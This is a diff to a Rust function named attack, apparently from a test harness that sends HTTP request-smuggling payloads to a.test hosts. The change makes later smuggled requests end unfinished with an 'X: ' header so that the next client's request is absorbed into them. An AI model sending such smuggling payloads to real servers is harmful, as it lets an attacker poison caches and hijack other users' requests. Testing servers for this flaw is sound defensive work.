@@ -137,18 +137,20 @@ fn attack(
     id: &str,
 ) -> std::io::Result<Outcome> {
     await_page(peer, id)?;
-    let content = format!("GET /{EVIL}?{id} HTTP/1.1\r\nHost: a.test\r\n\r\n");
-    let length = format!("Content-Length: {}\r\n", content.len());
-    let (fields, content) = match announcement {
-        Announcement::Sized => (length, content),
-        Announcement::NoStore => (length + "Cache-Control: no-store\r\n", content),
-        Announcement::Expected => (length + "Expect: 100-continue\r\n", content),
-        Announcement::Chunked => {
-            let chunks = format!("{:x}\r\n{content}\r\n0\r\n\r\n", content.len());
-            ("Transfer-Encoding: chunked\r\n".to_owned(), chunks)
-        }
-    };
     for n in 0..ATTACKS {
+        // A whole request, and the start of one: the next client's request would be its last field.
+        let end = if n == 0 { "\r\n" } else { "X: " };
+        let content = format!("GET /{EVIL}?{id} HTTP/1.1\r\nHost: a.test\r\n{end}");
+        let length = format!("Content-Length: {}\r\n", content.len());
+        let (fields, content) = match announcement {
+            Announcement::Sized => (length, content),
+            Announcement::NoStore => (length + "Cache-Control: no-store\r\n", content),
+            Announcement::Expected => (length + "Expect: 100-continue\r\n", content),
+            Announcement::Chunked => {
+                let chunks = format!("{:x}\r\n{content}\r\n0\r\n\r\n", content.len());
+                ("Transfer-Encoding: chunked\r\n".to_owned(), chunks)
+            }
+        };
         let request =
             format!("{method} /{VICTIM}?{id}-{n} HTTP/1.1\r\nHost: a.test\r\n{fields}\r\n{content}");
         exchange(peer.address, &bytes(&request), &[method == "HEAD"], 1, false)?;
